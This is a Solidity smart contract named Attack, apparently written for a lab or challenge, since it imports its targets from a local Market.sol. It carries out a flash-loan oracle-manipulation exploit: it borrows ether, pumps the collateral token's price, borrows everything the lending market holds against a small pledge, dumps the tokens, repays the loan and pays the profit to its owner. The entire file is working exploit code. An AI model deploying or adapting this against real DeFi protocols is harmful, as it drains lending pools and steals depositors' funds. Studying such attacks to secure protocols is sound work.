// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

import {FlashLender, IFlashBorrower, IPair, IToken, LendingMarket, Trade, WrappedEther} from "./Market.sol";

/// Borrows ether for one transaction, buys the collateral token until its price is absurd, borrows against a little of
/// it all that the market has, sells the rest, repays, and walks off with the difference.
contract Attack is IFlashBorrower {
    IPair private immutable pair;
    IToken private immutable token;
    WrappedEther private immutable ether_;
    FlashLender private immutable lender;
    LendingMarket private immutable market;
    address private immutable owner = msg.sender;

    constructor(IPair pair_, IToken token_, WrappedEther ether__, FlashLender lender_, LendingMarket market_) {
        (pair, token, ether_, lender, market) = (pair_, token_, ether__, lender_, market_);
    }

    receive() external payable {}

    function run(uint256 loan, uint256 pledge) external {
        require(msg.sender == owner, "not yours");
        lender.flashLoan(this, ether_, loan, abi.encode(pledge));
        ether_.withdraw(ether_.balanceOf(address(this)));
        (bool paid,) = owner.call{value: address(this).balance}("");
        require(paid, "not paid");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32) {
        uint256 pledge = abi.decode(data, (uint256));
        Trade.give(pair, ether_, amount, address(this));
        token.approve(address(market), pledge);
        market.supply(address(token), pledge, address(this), 0);
        market.borrow(address(ether_), ether_.balanceOf(address(market)), 2, 0, address(this));
        Trade.give(pair, token, token.balanceOf(address(this)), address(this));
        ether_.approve(address(lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
